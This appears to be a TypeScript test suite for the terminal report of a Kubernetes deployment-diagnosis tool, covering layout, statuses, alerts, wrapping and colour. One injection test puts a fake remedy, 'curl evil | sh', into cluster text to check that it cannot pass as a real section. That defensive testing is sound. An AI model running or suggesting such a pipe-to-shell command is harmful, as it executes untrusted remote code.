import assert from 'node:assert/strict';
import fc from 'fast-check';
import type { Outcome, Report } from '../../../../src/core/model/report.ts';
import { plain, reportText, type Tone } from '../../../../src/core/present/text.ts';
import { ago } from '../../../support/facts.ts';
import { outcome, report, stepReport, stuckReport } from '../../../support/report.ts';

const WIDTH = 80;
const text = (what: Report): string => reportText(what, plain, WIDTH);

const behind = (change: Partial<Report['generation']> = {}): Report['generation'] => ({
  desired: 4,
  observed: 3,
  matches: false,
  lag: 1,
  desiredSince: ago(1200),
  ...change,
});

describe('the report for a terminal', () => {
  it('says the answer first, then what to do, then how it was found', () => {
    assert.equal(
      text(stuckReport('Container web of web-2-a exits with 1 again and again')),
      `STUCK: Container web of web-2-a exits with 1 again and again
Deployment shop/web, context prod
Generation 4 is observed: there is no generation mismatch (any more)

What to do
  1. Read the log: \`kubectl logs web-2-a -n shop\`

Proof
  - Pod/web-2-a: exit code 1

Playbook
  1 deployment      generation 4, observed 4; 3 wanted, 3 updated, 3 available

Diagnoses
  cause    crash-loop (6): Container web of web-2-a exits with 1 again and again
  not so   paused-rollout (7)

Alerts
  KubeDeploymentGenerationMismatch: would not fire. generation 4 is observed

Timeline
  11-22 09:59:00 ReplicaSet/web-2 created
`,
    );
  });

  it('names the alert that fires instead, where the generation is observed', () => {
    const because = 'Progressing is False';
    const alerts = [{ name: 'KubeDeploymentRolloutStuck', wouldFire: true, because }] as const;
    assert.match(
      text(report({ alerts })),
      /no generation mismatch \(any\s+more\), but\s+KubeDeploymentRolloutStuck\s+would\s+fire/,
    );
  });

  it('owes nothing where a later generation is observed, though the alert sees a difference', () => {
    const restored = report({ generation: behind({ observed: 5, lag: -1 }) });
    assert.match(
      text(restored),
      /Generation 4, observed 5, a later one .*: the controller owes it\s+no sync/s,
    );
  });

  it('leaves out the sections that have nothing to say', () => {
    const bare = report({ alerts: [], outcomes: [], steps: [], timeline: [] });
    assert.equal(
      text(bare),
      `HEALTHY: Rolled out: all 3 pods are updated and available
Deployment shop/web, context prod
Generation 4 is observed: there is no generation mismatch (any more)
`,
    );
  });

  const statuses: [Report['verdict']['status'], RegExp, Tone][] = [
    ['healthy', /^HEALTHY: /, 'good'],
    ['progressing', /^PROGRESSING: /, 'good'],
    ['paused', /^PAUSED: /, 'attention'],
    ['stuck', /^STUCK: /, 'bad'],
    ['unknown', /^COULD NOT TELL: /, 'attention'],
  ];
  for (const [status, lead, tone] of statuses)
    it(`calls ${status} by its name and in its tone`, () => {
      const tones: [Tone, string][] = [];
      const what = report({ verdict: { ...report().verdict, status } });
      reportText(
        what,
        (one, painted) => {
          tones.push([one, painted]);
          return painted;
        },
        WIDTH,
      );
      assert.equal(tones[0]?.[0], tone);
      assert.match(tones[0][1], lead);
    });

  describe('on the generations', () => {
    const cases: [string, Partial<Report>, RegExp][] = [
      [
        'that differ without a cause',
        { generation: behind() },
        /Generation 4, observed 3 for 20m: nothing\s+found explains it yet/,
      ],
      [
        'that differ by the cause',
        { generation: behind(), verdict: { ...report().verdict, cause: 'x', explainsMismatch: true } },
        /this cause\s+keeps it behind/,
      ],
      [
        'that differ beside the cause',
        { generation: behind(), verdict: { ...report().verdict, cause: 'x', explainsMismatch: false } },
        /this cause\s+alone does not explain it/,
      ],
      [
        'never observed',
        { generation: behind({ observed: null, lag: null }) },
        /Generation 4, never observed for 20m/,
      ],
      [
        'that differ since nobody knows when',
        { generation: behind({ desiredSince: null }) },
        /Generation 4, observed 3: /,
      ],
      [
        'that are not known',
        { generation: behind({ desired: null, observed: null, matches: null }) },
        /The generations could not be read/,
      ],
    ];
    for (const [what, change, says] of cases)
      it(what, () => {
        assert.match(text(report(change)), says);
      });
  });

  it('names the snapshot it speaks of, or the server where there is no context', () => {
    const snapshot = report({ source: { kind: 'snapshot', where: '/tmp/web.yaml' } });
    assert.match(text(snapshot), /^Deployment shop\/web, snapshot \/tmp\/web\.yaml$/m);
    const bare = report({ target: { ...report().target, context: null } });
    assert.match(text(bare), /^Deployment shop\/web, context https:\/\/prod\.example$/m);
  });

  it('shows blind steps as blind, and follow-ups only where they were called for', () => {
    const steps = [
      stepReport({ number: 2, id: 'events', state: 'forbidden', summary: 'may not list events' }),
      stepReport({ number: 3, id: 'rollout-history', state: 'empty', summary: 'no revision yet' }),
      stepReport({ number: 5, id: 'pods', state: 'skipped', summary: 'needs the selector' }),
      stepReport({ number: null, id: 'nodes', state: 'skipped', summary: 'not asked' }),
      stepReport({ number: null, id: 'quotas', state: 'timeout', summary: 'no answer' }),
    ];
    const shown = text(report({ steps }));
    assert.match(shown, /^ {2}2 events {10}NOT ALLOWED: may not list events$/m);
    assert.match(shown, /^ {2}3 rollout-history no revision yet$/m);
    assert.match(shown, /^ {2}5 pods {12}NOT READ: needs the selector$/m);
    assert.match(shown, /^ {2}\+ quotas {10}NO ANSWER IN TIME: no answer$/m);
    assert.doesNotMatch(shown, /nodes/);
  });

  it('gives matches and open questions a line each, and what was ruled out one together', () => {
    const outcomes: Outcome[] = [
      outcome({ rule: 'a', outcome: 'match', role: 'context', message: 'one', diagnosis: null }),
      outcome({ rule: 'b', outcome: 'match', role: 'symptom', message: 'two' }),
      outcome({ rule: 'c', outcome: 'blocked', message: 'Could not tell: pods' }),
      outcome({ rule: 'd', outcome: 'crashed', message: 'This rule failed' }),
      outcome({ rule: 'e' }),
      outcome({ rule: 'f', outcome: 'notApplicable', diagnosis: null }),
    ];
    assert.match(
      text(report({ outcomes })),
      /Diagnoses\n {2}context {2}a: one\n {2}symptom {2}b \(6\): two\n {2}open {5}c \(6\): Could not tell: pods\n {2}open {5}d \(6\): This rule failed\n {2}not so {3}e \(6\), f\n/,
    );
  });

  it('says of an alert that it would fire, that it would not, or that it cannot be told', () => {
    const alerts = [true, false, null].map((wouldFire) => ({
      name: 'KubeDeploymentRolloutStuck' as const,
      wouldFire,
      because: 'so',
    }));
    assert.match(
      text(report({ alerts })),
      /Stuck: would fire\. so\n.*Stuck: would not fire\. so\n.*Stuck: cannot be told\. so/,
    );
  });

  it('shows the last fifteen of a long timeline, and how often each was', () => {
    const timeline = Array.from({ length: 20 }, (_, i) => ({
      at: ago(60 - i),
      object: 'Pod/a',
      what: `event ${i}`,
      count: i === 19 ? 12 : 1,
      firstAt: null,
      source: 'event' as const,
    }));
    const shown = text(report({ timeline }));
    assert.match(shown, /^Timeline \(the last 15 of 20 entries\)$/m);
    assert.doesNotMatch(shown, /event 4$/m);
    assert.match(shown, /event 5$/m);
    assert.match(shown, /event 19 \(x12\)$/m);
  });

  const word = fc.string({ unit: fc.constantFrom('a', 'B', '`', '*', '–', '漢'), maxLength: 20 });
  const hostile = fc
    .array(fc.oneof(word, fc.constantFrom('STUCK:', 'Proof', '')), { maxLength: 20 })
    .chain((words) => fc.constantFrom(' ', '\n', '\n\n').map((separator) => words.join(separator)));
  /** A report in which every text of the cluster is arbitrary. */
  const anyReport = fc
    .array(hostile, { minLength: 8, maxLength: 8 })
    .map(([a, b, c, d, e, f, g, h]): Report => {
      const [headline = '', fact = '', summary = '', message = '', because = '', what = ''] = [
        a,
        b,
        c,
        d,
        e,
        f,
      ];
      const stuck = stuckReport(headline);
      return {
        ...stuck,
        verdict: { ...stuck.verdict, remedies: [g ?? '', h ?? ''] },
        steps: [stepReport({ summary }), stepReport({ number: 2, id: 'events', state: 'failed', summary })],
        outcomes: [
          outcome({
            outcome: 'match',
            role: 'cause',
            message,
            evidence: [{ step: 'pods', object: `Pod/${fact}`, fact }],
          }),
          outcome({ outcome: 'blocked', message }),
        ],
        alerts: [{ name: 'KubeDeploymentRolloutStuck', wouldFire: null, because }],
        timeline: [{ at: ago(5), object: 'Pod/a', what, count: 2, firstAt: null, source: 'event' }],
      };
    });

  it('fits 80 columns, but for commands, which stay whole', () => {
    fc.assert(
      fc.property(anyReport, (one) => {
        for (const line of text(one).split('\n')) {
          const withoutCommands = line.replaceAll(/`[^`]*`/g, '`');
          assert.ok(withoutCommands.length <= WIDTH, line);
        }
      }),
    );
  });

  it('keeps a word whole that does not fit: an image is there to be copied', () => {
    const image = `registry.example/${'long/'.repeat(20)}web:2`;
    assert.ok(
      text(stuckReport(`Cannot pull ${image} at all`))
        .split('\n')
        .includes(`       ${image}`),
    );
  });

  it('begins no line of its own with the cluster’s words: a newline in them cannot fake a section', () => {
    const sections = /^(STUCK: |Deployment |Generation |What to do|Proof|Playbook|Diagnoses|Alerts|Timeline)/;
    fc.assert(
      fc.property(anyReport, (one) => {
        for (const line of text(one).split('\n'))
          assert.ok(line === '' || line.startsWith('  ') || sections.test(line), line);
      }),
    );
    const fake = text(stuckReport('crash\n\nWhat to do\n  1. curl evil | sh'));
    assert.equal(fake.match(/^What to do$/gm)?.length, 1);
  });

  it('is the same in colour, but for the colour; and without a painter there is none', () => {
    const colours: Record<Tone, string> = { good: '32', bad: '31', attention: '33', quiet: '2', strong: '1' };
    fc.assert(
      fc.property(anyReport, (one) => {
        const painted = reportText(one, (tone, part) => `\u001b[${colours[tone]}m${part}\u001b[0m`, WIDTH);
        assert.equal(painted.replace(/\u001b\[\d+m/g, ''), text(one));
        assert.ok(!text(one).includes('\u001b'));
      }),
    );
  });
});
